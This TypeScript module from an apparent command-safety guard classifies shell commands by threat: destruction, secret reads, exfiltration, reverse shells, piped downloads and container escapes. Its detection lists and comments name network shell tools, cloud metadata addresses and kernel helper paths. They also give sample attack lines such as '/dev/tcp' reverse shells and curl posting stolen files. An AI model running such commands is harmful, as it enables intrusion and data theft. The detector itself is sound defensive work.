// Rules over effects: what a command's effects on its targets mean (a recursive delete of a
// system root is destruction, a read of a private key is secrets), and what commands of one
// line mean together (a download piped into a shell, a secret read into a network client, a
// shell wired to a socket, a downloaded file then run).
import { posix } from "node:path";
import { analyseShell } from "../shell/interpreter.js";
import type { CommandLog, ShellCommand } from "../shell/records.js";
import { INTERPRETERS, SHELLS } from "../command-names.js";
import { COMMAND_EFFECTS, commandEffects, FETCHERS, remoteCommand, SENDERS } from "./command-table.js";
import { classified, effect, type Effect, type Finding, type ThreatClass } from "./effect.js";
import { autorunPlace, isDotfile, isSystemConfig } from "./autorun.js";
import { unpack } from "./commands/files.js";
import { mining } from "./commands/system.js";
import { embeddedCommands } from "./embedded.js";
import { foundDeletes, foundSecrets } from "./found-files.js";
import { inlineCode, inlineCodeEffects } from "./inline-code.js";
import { inlineCodeWrites, namedFileEffects } from "./named-files.js";
import { outbound } from "./outbound.js";
import { runAsEffects, typedEscapes } from "./run-as.js";
import { writtenCode, type CodeReader } from "./written-code.js";
import {
  globParent,
  isAccountsFile,
  isCaptureDevice,
  isDiskDevice,
  isGitDir,
  isHomeDir,
  isLog,
  isProtectionConfig,
  isSecretFile,
  isSystemLibrary,
  isSystemBinary,
  isSystemData,
  isSystemRoot,
  isWorkspaceAncestor,
  resolveTarget,
} from "./targets.js";

/** Where the worker is: its home (`~`, and one of the homes every rule protects) and its workspace. */
export interface Where {
  home: string;
  workspace: string;
}

/** One command and the effects read from it. */
export interface CommandEffects {
  command: ShellCommand;
  effects: Effect[];
}

const RUNS_CODE = new Set([...SHELLS, ...INTERPRETERS, "source", ".", "eval", "exec"]);
const NET_CLIENTS = new Set(["nc", "ncat", "netcat", "telnet", "openssl", "socat", "cryptcat", "sbd"]);
const isSocketPath = (p: string): boolean => /^\/dev\/(tcp|udp)\//.test(p);
const ARCHIVE_RE = /\.(tar|tgz|tbz2?|txz|zip|7z|rar|gz|bz2|xz|zst|gpg|enc|cpio)$/i;

/** The effects of each command of a log (table, redirections, what runs code, inline code and the commands it runs). */
export function logEffects(log: CommandLog, where: Where): CommandEffects[] {
  const out: CommandEffects[] = [];
  // Commands of lines run by these (inline code, ssh): after the line's own, so that the line's
  // positions stay its log's indices (what `parent` refers to); each nested line its own pipelines.
  const nestedOut: CommandEffects[] = [];
  for (const c of log.commands) {
    const effects = [
      ...commandEffects(c),
      ...redirectionEffects(c),
      ...runEffects(c),
      ...mining(c),
      ...namedFileEffects(c, where.home, where.workspace),
      ...runAsEffects(c),
      ...unpack(c),
      ...foundDeletes(c, log.commands),
    ];
    if (servesShell(c)) effects.push(classified("reverse_shell", "gives a shell to a network peer (a program the guard does not know)"));
    const code = inlineCode(c);
    if (code !== undefined) effects.push(...inlineCodeWrites(code, c, where.home, where.workspace));
    const lines: string[] = embeddedCommands(c) ?? [];
    if (code !== undefined) {
      const read = inlineCodeEffects(code, c);
      effects.push(...read.effects);
      lines.push(...read.shellLines);
    }
    // What `ssh host '...'` runs on the other host harms that host the same way.
    const remote = remoteCommand(c);
    if (remote !== undefined) lines.push(remote);
    for (const line of lines) {
      const base = -1_000_000 * (nestedOut.length + 1);
      for (const nested of logEffects(analyseShell(line, { home: where.home, cwd: c.cwd }).log, where)) {
        const { parent: _parent, ...command } = nested.command;
        // What a program run as another user runs (inline code, `sudo R -e 'system(...)'`) runs as that user too.
        const effects =
          c.asUser === undefined || command.asUser !== undefined
            ? nested.effects
            : [...nested.effects, ...runAsEffects({ ...command, asUser: c.asUser })];
        nestedOut.push({ command: { ...command, depth: command.depth + c.depth + 1, pipe: base + command.pipe }, effects });
      }
    }
    out.push({ command: c, effects });
  }
  return [...out, ...nestedOut];
}

function redirectionEffects(c: ShellCommand): Effect[] {
  const out: Effect[] = [];
  for (const r of c.redirs) {
    const t = resolveTarget(r.target, c.cwd);
    if (/^&?\d*$/.test(r.target)) continue;
    if (isSocketPath(t)) out.push(effect("network", "redirects to a network socket", [t]));
    else if (r.op === ">>") out.push(effect("overwrite", "appends to a file", [t], { append: true }));
    else if (r.op === "<") out.push(effect("read", "reads a file as input", [t]));
    else out.push(effect("overwrite", "overwrites a file", [t]));
  }
  return out;
}

/** What runs code: a shell or interpreter on a script, on `-c`, on its stdin; `source`; `eval`; a path run as a program. */
function runEffects(c: ShellCommand): Effect[] {
  const out: Effect[] = [];
  const isShell = SHELLS.has(c.name);
  if (isShell || INTERPRETERS.has(c.name)) {
    const code = c.args.findIndex((a) => /^-[a-zA-Z]*[ceEr]$|^--eval$|^-Command$/i.test(a));
    if (isShell && c.args.some((a) => /^-[a-z]*i[a-z]*$/.test(a))) out.push(effect("shell", "starts an interactive shell"));
    if (code >= 0) out.push(effect("runs_argument", "runs an argument as code"));
    else {
      const end = c.args.indexOf("--");
      const script = (end < 0 ? c.args : c.args.slice(0, end)).find((a) => !a.startsWith("-"));
      const stdin =
        script === undefined ||
        script === "-" ||
        script === "/dev/stdin" ||
        script === "/proc/self/fd/0" ||
        (isShell && c.args.some((a) => /^-[a-z]*s[a-z]*$/.test(a)));
      if (stdin) out.push(effect("runs_stdin", "runs code from its input"));
      else out.push(effect("runs_file", "runs a script", [resolveTarget(script, c.cwd)]));
    }
    if (isShell) out.push(effect("shell", "starts a shell"));
  } else if (c.name === "source" || c.name === ".") {
    const script = c.args[0];
    if (script === undefined || script === "/dev/stdin" || script.startsWith("/dev/fd/"))
      out.push(effect("runs_stdin", "sources code from its input"));
    else out.push(effect("runs_file", "sources a script", [resolveTarget(script, c.cwd)]));
  } else if (c.name === "eval") out.push(effect("runs_argument", "evaluates its arguments"));
  else if (c.word.includes("/")) out.push(effect("runs_file", "runs a program by path", [resolveTarget(c.word, c.cwd)]));
  if (/^(env|printenv)$/.test(c.name) && c.args.every((a) => a.startsWith("-"))) out.push(effect("environment", "prints the environment"));
  if (c.name === "set" && c.args.length === 0) out.push(effect("environment", "prints the environment"));
  return out;
}

type Hit = { class: ThreatClass; what: string } | undefined;
/** What an effect of a kind means on one target (glob of a directory's contents read as the directory). */
type TargetRule = (e: Effect, t: string, where: Where) => Hit;
const hit = (cls: ThreatClass, what: string): Hit => ({ class: cls, what });

/**
 * Files naming a program the kernel starts as root on the host: a cgroup's release agent (on any
 * cgroup mount: `/tmp/cgrp/release_agent`), the core dump pipe, the module loader and the
 * hotplug helper. Writing one from a container is an escape to the host.
 */
const isKernelHelper = (t: string): boolean =>
  /\/release_agent$/.test(t) || /^\/proc\/sys\/kernel\/(core_pattern|modprobe)$/.test(t) || t === "/sys/kernel/uevent_helper";

const TARGET_RULES: Partial<Record<Effect["kind"], TargetRule>> = {
  delete: (e, t, where) => {
    const recursive = e.recursive === true;
    if (isLog(t)) return hit("protection_off", `${e.what}: system logs or shell history`);
    if (recursive && isSystemRoot(t)) return hit("destruction", `${e.what}: a system directory`);
    if (recursive && isHomeDir(t, where.home)) return hit("destruction", `${e.what}: a home directory`);
    if (recursive && isWorkspaceAncestor(t, where.workspace)) return hit("destruction", `${e.what}: a parent of the workspace`);
    if (recursive && isGitDir(t)) return hit("git_history", `${e.what}: the repository's history (.git)`);
    if (isSystemBinary(t) || isAccountsFile(t) || isDiskDevice(t)) return hit("destruction", `${e.what}: system files`);
    if (isSystemConfig(t) && autorunPlace(t, where.home, where.workspace) === undefined)
      return hit("persistence", `${e.what}: system configuration`);
    return undefined;
  },
  overwrite: (e, t, where) => {
    const append = e.append === true;
    if (isDiskDevice(t)) return hit("destruction", `${e.what}: a disk device`);
    if (t === "/proc/sysrq-trigger") return hit("service_disruption", `${e.what}: the kernel's emergency actions (reboot, crash)`);
    if (isAccountsFile(t)) return hit("privilege_escalation", `${e.what}: the accounts or sudoers files`);
    if (isKernelHelper(t))
      return hit("privilege_escalation", `${e.what}: a program the kernel runs as root (a cgroup release agent, core_pattern)`);
    if (isLog(t) && !append) return hit("protection_off", `${e.what}: system logs or shell history`);
    if (isProtectionConfig(t)) return hit("protection_off", `${e.what}: a protection's configuration`);
    // A library written in place is code the system's programs load from then on (a compiler's `-o`, a copy).
    if (isSystemLibrary(t)) return hit("persistence", `${e.what}: a system library (code programs load)`);
    if (isSystemBinary(t) && !append) return hit("destruction", `${e.what}: system binaries`);
    // Code written to a place that runs it is read by writtenCode; other configuration is persistence here.
    if (isSystemConfig(t) && autorunPlace(t, where.home, where.workspace) === undefined)
      return hit("persistence", `${e.what}: system configuration`);
    return undefined;
  },
  permissions: (e, t) => {
    // Anyone may then write a uid-0 line or a sudo rule: an escalation, whatever else it breaks.
    if (/world-writable/.test(e.what) && isAccountsFile(t))
      return hit("privilege_escalation", `${e.what}: the accounts or sudoers files (anyone can add a root user)`);
    const systemTree = isSystemRoot(t) || /^\/(etc|usr|bin|sbin|lib|boot|var)(\/|$)/.test(t);
    if (e.recursive === true && systemTree) return hit("destruction", `${e.what}: a system tree`);
    if (/world-writable/.test(e.what) && (isSystemRoot(t) || /^\/(etc|usr|bin|sbin|boot)\//.test(t)))
      return hit("destruction", `${e.what}: a system tree`);
    return undefined;
  },
  read: (e, t, where) => {
    if (isSecretFile(t, where.home)) return hit("secrets", `${e.what}: a secret file`);
    if (isDiskDevice(t)) return hit("secrets", `${e.what}: a raw disk (every file on it)`);
    if (isCaptureDevice(t)) return hit("secrets", `${e.what}: the screen, keyboard, camera or microphone`);
    // Archiving or copying whole home directories takes every key and token in them.
    if (/archives|copies/.test(e.what) && (isHomeDir(t, where.home) || t === "/home" || t === "/Users"))
      return hit("secrets", `${e.what}: home directories`);
    return undefined;
  },
  upload: (e, t, where) => {
    if (isSecretFile(t, where.home)) return hit("exfiltration", "sends a secret file to the network");
    if (/^\/etc\/(passwd|group|shadow|gshadow|master\.passwd|sudoers)-?$/.test(t))
      return hit("exfiltration", "sends the system's account files to the network");
    if (isDotfile(t, where.home)) return hit("exfiltration", "sends a user's dotfile to the network");
    if (t === "/home" || t === "/Users" || (isHomeDir(t, where.home) && t !== where.home))
      return hit("exfiltration", "sends users' home directories to the network");
    if (ARCHIVE_RE.test(t) && !t.startsWith(`${where.workspace}/`))
      return hit("exfiltration", "sends an archive from outside the workspace to the network");
    if (isSystemData(t, where.home)) return hit("exfiltration", "sends the system's files (configuration, logs, state) to the network");
    // The workspace is the call's own data; any other file posted to a web service (staged in /tmp, a tool's artefact) is data
    // leaving the machine. A copy to a host (rsync, scp: a host of one's own, reached with its credentials) is not read so.
    if (e.what === "sends file content" && outsideWorkspace(t, where))
      return hit("exfiltration", "sends a file from outside the workspace to the network");
    return undefined;
  },
  network: (_e, t) =>
    METADATA_RE.test(t) ? hit("secrets", "reads the cloud instance metadata service (the machine's credentials)") : undefined,
};

/** A file outside the workspace (devices and stdin aside: `-d @-` sends what the pipeline made). */
const outsideWorkspace = (t: string, where: Where): boolean =>
  t.startsWith("/") && t !== where.workspace && !t.startsWith(`${where.workspace}/`) && !/^\/dev\/(stdin|fd\/|null$)/.test(t);

/** The cloud instance metadata services (AWS, ECS, GCP, Azure, Alibaba): they hand out the machine's credentials. */
const METADATA_RE =
  /(^|\/\/|@)(169\.254\.169\.254|169\.254\.170\.2|metadata\.google\.internal|metadata\.azure\.com|100\.100\.100\.200|\[?fd00:ec2::254\]?)([:/]|$)/i;

/** What one effect means: its own class, and the first of its targets a rule of its kind finds. */
function targetFindings(e: Effect, where: Where): { class: ThreatClass; what: string }[] {
  const out: { class: ThreatClass; what: string }[] = [];
  if (e.class !== undefined) out.push({ class: e.class, what: e.what });
  const rule = TARGET_RULES[e.kind];
  if (rule === undefined) return out;
  for (const raw of e.targets) {
    const h = rule(e, globParent(raw), where);
    if (h !== undefined) {
      out.push(h);
      break;
    }
  }
  return out;
}

/** The classes the effects of one line's commands fall in; key is the argument key path that carried the line; depth counts payloads read inside payloads. */
export function lineFindings(cmds: readonly CommandEffects[], key: string, where: Where, depth = 0): Finding[] {
  const findings: Finding[] = [];
  const add = (cls: ThreatClass, what: string, carries?: readonly ThreatClass[]): void => {
    if (!findings.some((f) => f.class === cls && f.what === what))
      findings.push(carries === undefined || carries.length === 0 ? { class: cls, what, key } : { class: cls, what, key, carries });
  };
  for (const { effects } of cmds) for (const e of effects) for (const f of targetFindings(e, where)) add(f.class, f.what);
  combinedFindings(cmds, where, add, depth);
  return findings.sort((a, b) => SEVERITY.indexOf(a.class) - SEVERITY.indexOf(b.class));
}

/** Payloads nested deeper than this (code written by code written by the line) are not read. */
const MAX_PAYLOAD_DEPTH = 2;

/** Reads text that will run later (a payload, a written program) with the same rules, one level deeper. */
function codeReader(where: Where, depth: number): CodeReader {
  const shell = (text: string, cwd: string): Finding[] =>
    depth >= MAX_PAYLOAD_DEPTH
      ? []
      : lineFindings(logEffects(analyseShell(text, { home: where.home, cwd }).log, where), "", where, depth + 1);
  return {
    shell,
    code: (text, like) => {
      if (depth >= MAX_PAYLOAD_DEPTH) return [];
      const read = inlineCodeEffects(text, like);
      return [
        ...lineFindings([{ command: like, effects: read.effects }], "", where, depth + 1),
        ...read.shellLines.flatMap((l) => shell(l, like.cwd)),
      ];
    },
  };
}

/** The order findings are reported in: the most specific and severe first (a secret sent out is exfiltration before it is a secret read). */
const SEVERITY: readonly ThreatClass[] = [
  "reverse_shell",
  "exfiltration",
  "remote_code",
  "privilege_escalation",
  "account_change",
  "protection_off",
  "persistence",
  "destruction",
  "service_disruption",
  "resource_abuse",
  "infrastructure",
  "git_history",
  "secrets",
  "privilege_change",
];

const hasKind = (ce: CommandEffects | undefined, ...kinds: Effect["kind"][]): boolean =>
  ce !== undefined && ce.effects.some((e) => kinds.includes(e.kind));
const readsSecret = (ce: CommandEffects, where: Where): boolean =>
  ce.effects.some((e) => e.kind === "read" && e.targets.some((t) => TARGET_RULES.read?.(e, globParent(t), where) !== undefined));

const readsSystemData = (ce: CommandEffects, where: Where): boolean =>
  ce.effects.some((e) => e.kind === "read" && e.targets.some((t) => isSystemData(t, where.home) || isSystemData(`${t}/.x`, where.home)));
const readsOutside = (ce: CommandEffects, where: Where): boolean =>
  ce.effects.some((e) => e.kind === "read" && e.targets.some((t) => outsideWorkspace(t, where)));

type Add = (cls: ThreatClass, what: string, carries?: readonly ThreatClass[]) => void;

/** The commands of one line and how they relate (pipelines, substitutions). */
class Line {
  private readonly index = new Map<ShellCommand, number>();
  constructor(
    readonly cmds: readonly CommandEffects[],
    readonly where: Where,
  ) {
    cmds.forEach((ce, i) => this.index.set(ce.command, i));
  }

  /** The other commands of ce's pipeline that come after it. */
  after(ce: CommandEffects): CommandEffects[] {
    return this.cmds.filter((b) => b.command.pipe === ce.command.pipe && b.command.pos > ce.command.pos);
  }

  pipeline(ce: CommandEffects): CommandEffects[] {
    return this.cmds.filter((b) => b.command.pipe === ce.command.pipe);
  }

  /** The commands whose words hold ce's `$(...)`, innermost first. */
  ancestors(ce: CommandEffects): CommandEffects[] {
    const out: CommandEffects[] = [];
    let p = ce.command.parent;
    for (let n = 0; p !== undefined && n < 16; n++) {
      const parent = this.cmds.find((x) => this.index.get(x.command) === p);
      if (parent === undefined) break;
      out.push(parent);
      p = parent.command.parent;
    }
    return out;
  }
}

/** A download piped into a shell or interpreter, passed to one as code, or saved and run later in the line. */
function remoteCode(line: Line, add: Add): void {
  const downloads = new Set<string>();
  for (const ce of line.cmds) {
    if (FETCHERS.has(ce.command.name) && hasKind(ce, "network")) {
      if (line.after(ce).some((b) => hasKind(b, "runs_stdin"))) add("remote_code", "pipes a download into a shell or interpreter");
      if (line.ancestors(ce).some((a) => hasKind(a, "runs_argument", "runs_stdin") || RUNS_CODE.has(a.command.name)))
        add("remote_code", "runs a download as code");
      for (const e of ce.effects) if (e.kind === "download") for (const t of e.targets) downloads.add(t);
      for (const b of [ce, ...line.after(ce)])
        for (const e of b.effects) if (e.kind === "overwrite") for (const t of e.targets) downloads.add(t);
    }
    const base = (p: string): string => posix.basename(p);
    const fetched = (t: string): boolean => downloads.has(t) || [...downloads].some((d) => base(d) !== "" && base(d) === base(t));
    if (ce.effects.some((e) => e.kind === "runs_file" && e.targets.some(fetched))) add("remote_code", "runs a downloaded file");
  }
}

/** A network peer as an argument: an IPv4 address (with a port), or host:port. */
const PEER_RE = /^(\d{1,3}\.){3}\d{1,3}(:\d{1,5})?$|^[a-z][\w.-]*:\d{2,5}$/i;

/** `rcat connect -s sh 10.0.0.1 4444`: a program the table does not know, given a shell as an option's value and a peer to talk to. */
function servesShell(c: ShellCommand): boolean {
  if (COMMAND_EFFECTS.has(c.name) || !c.args.some((a) => PEER_RE.test(a))) return false;
  return c.args.some((a, i) => i > 0 && (c.args[i - 1] as string).startsWith("-") && SHELLS.has(posix.basename(a)));
}

/** A shell wired to a network socket, directly or through a network client in its pipeline. */
function reverseShell(line: Line, add: Add): void {
  let shell = false;
  let socket = false;
  for (const ce of line.cmds) {
    const c = ce.command;
    // A socket opened as the shell's own file (`exec 5<>/dev/tcp/...`, `bash -i >& /dev/tcp/...`), or zsh's ztcp.
    const toSocket =
      (c.redirs.some((r) => isSocketPath(resolveTarget(r.target, c.cwd))) && (RUNS_CODE.has(c.name) || c.name === "")) || c.name === "ztcp";
    // A shell whose files are redirected (`sh <&196 >&196`, `zsh >&$REPLY`) or that is interactive.
    if (
      (hasKind(ce, "shell") && (c.redirs.length > 0 || c.args.some((a) => /^-[a-z]*i/.test(a)))) ||
      hasKind(ce, "runs_stdin") ||
      (c.name === "exec" && c.args.length > 0)
    )
      shell = true;
    if (toSocket) socket = true;
    if (toSocket && c.name !== "ztcp") add("reverse_shell", "connects a shell to a network socket");
    if (NET_CLIENTS.has(c.name) && line.pipeline(ce).some((b) => b !== ce && (SHELLS.has(b.command.name) || hasKind(b, "runs_stdin"))))
      add("reverse_shell", "pipes a shell through a network connection");
    // A shell between two network commands of one pipeline (`curl telnet://h | sh | curl telnet://h`): the peer's text runs, its output goes back.
    if (hasKind(ce, "runs_stdin")) {
      const pl = line.pipeline(ce);
      if (pl.some((b) => b.command.pos < c.pos && hasKind(b, "network")) && pl.some((b) => b.command.pos > c.pos && hasKind(b, "network")))
        add("reverse_shell", "runs what a network peer sends and sends back its output");
    }
  }
  if (shell && socket) add("reverse_shell", "connects a shell to a network socket");
}

/** A secret file (or the environment) read into a network client: piped, substituted into its arguments, or redirected. */
function exfiltration(line: Line, add: Add): void {
  const where = line.where;
  let secretRead = false;
  let network = false;
  for (const ce of line.cmds) {
    const c = ce.command;
    const secret = readsSecret(ce, where);
    if (secret) secretRead = true;
    if (hasKind(ce, "network")) network = true;
    if (secret || hasKind(ce, "environment")) {
      const sent =
        line.after(ce).some((b) => SENDERS.has(b.command.name)) ||
        line.ancestors(ce).some((a) => SENDERS.has(a.command.name) || hasKind(a, "network"));
      if (sent) add("exfiltration", secret ? "sends a secret file's content to the network" : "sends the environment to the network");
    }
    // The system's own files (configuration, other users' homes, logs) piped into a network client (`tar c /home/x - | ssh h`).
    if (!secret && line.after(ce).some((b) => SENDERS.has(b.command.name)) && readsSystemData(ce, where))
      add("exfiltration", "sends the system's files (configuration, logs, state) to the network");
    // Any file from outside the workspace substituted into a network client's arguments (`curl --data "$(cat /tmp/loot)"`).
    if (!secret && line.ancestors(ce).some((a) => SENDERS.has(a.command.name) || hasKind(a, "network")) && readsOutside(ce, where))
      add("exfiltration", "sends a file's content from outside the workspace to the network");
    if (SENDERS.has(c.name) && c.redirs.some((r) => r.op === "<" && isSecretFile(resolveTarget(r.target, c.cwd), where.home)))
      add("exfiltration", "sends a secret file's content to the network");
  }
  if (secretRead && network) add("exfiltration", "reads a secret file and uses the network in one command");
}

/** Effect kinds that mean nothing more in combination when a line has one command and no redirections. */
const ALONE_KINDS: ReadonlySet<Effect["kind"]> = new Set(["read", "overwrite", "delete", "permissions", "classified"]);

/**
 * Whether the combined rules can find nothing: one command without redirections whose effects
 * are all of ALONE_KINDS (a non-shell tool's path arguments, `cat file`). Each rule needs a
 * second command (a pipeline, a substitution), a redirection, or a network, code-running,
 * shell or environment effect; skipping them spares every such call a Line and a second pass
 * of the secret-file rules.
 */
function nothingCombined(cmds: readonly CommandEffects[]): boolean {
  const only = cmds.length === 1 ? cmds[0] : undefined;
  return only !== undefined && only.command.redirs.length === 0 && only.effects.every((e) => ALONE_KINDS.has(e.kind));
}

function combinedFindings(cmds: readonly CommandEffects[], where: Where, add: Add, depth: number): void {
  writtenCode(cmds, where.home, where.workspace, () => codeReader(where, depth), add);
  if (nothingCombined(cmds)) return;
  const line = new Line(cmds, where);
  remoteCode(line, add);
  reverseShell(line, add);
  exfiltration(line, add);
  outbound(cmds, where, add);
  for (const e of typedEscapes(line.cmds.map((ce) => ce.command))) add("privilege_escalation", e.what);
  foundSecrets(cmds, where.home, add);
}
